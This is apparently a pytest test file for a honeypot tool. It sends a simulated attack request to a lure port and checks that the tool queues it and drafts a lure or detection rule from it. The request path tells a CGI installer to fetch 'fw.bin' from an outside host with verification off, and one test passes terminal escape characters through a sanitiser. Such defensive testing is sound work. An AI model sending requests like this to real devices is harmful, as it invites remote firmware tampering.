import http.client
import time
from pathlib import Path
from typing import Any

import pytest

from installation import Installation
from propolis.cli.novel import inert
from propolis.detection.rules.load import read

pytestmark = pytest.mark.xdist_group("installation")

WAIT_SECONDS = 40.0
PATH = "/cgi-bin/zyx-installer.cgi?session={number}&url=http://198.51.100.{number}/fw.bin&verify=never"


def spread(installation: Installation) -> dict[str, Any]:
    """The same request from four addresses, and its place in the queue."""
    (port,) = installation.config.lures["http"].ports
    for number in range(1, 5):
        client = http.client.HTTPConnection(
            "127.0.0.1", port, timeout=20, source_address=(f"127.66.0.{number}", 0)
        )
        client.request("GET", PATH.format(number=number))
        client.getresponse().read()
        client.close()
    deadline = time.monotonic() + WAIT_SECONDS
    while time.monotonic() < deadline:
        novel = installation.json("novel", "list")["novel"]
        for one in novel:
            if "zyx" in one["template"] and one["sources"] == 4:
                return dict(one)
        time.sleep(1)
    raise AssertionError(f"it is not in the queue: {novel}")


def test_what_spreads_is_listed_shown_and_drafted(installation: Installation, tmp_path: Path) -> None:
    one = spread(installation)
    assert one["id"] in installation.say("novel", "list")
    words = installation.say("novel", "show", one["id"])
    assert "4 sources" in words
    assert "GET /cgi-bin/zyx-installer.cgi?session=" in words
    lure = installation.say("novel", "draft", one["id"], "--lure", "--out", str(tmp_path)).strip()
    assert installation.say("lures", "test", lure) == "All tests hold.\n"
    assert installation.say("novel", "draft", one["id"], "--rule", "--out", str(tmp_path)).strip() == lure
    assert read(Path(lure)).kinds == ("RequestReceived",)


def test_mistakes_are_told(installation: Installation) -> None:
    assert "is not in the queue" in installation.mistake("novel", "show", "000000000000")
    assert "say --rule or --lure" in installation.mistake("novel", "draft", "000000000000")


def test_nothing_runs(idle: Installation) -> None:
    assert "nothing runs" in idle.mistake("novel", "list")


def test_what_an_attacker_wrote_moves_no_cursor() -> None:
    assert inert("a\x1b[2J\u202eb", 99) == "a\\x1b[2J\\u202eb"
    assert inert("a\nb", 2, keep="\n") == "a\n…"
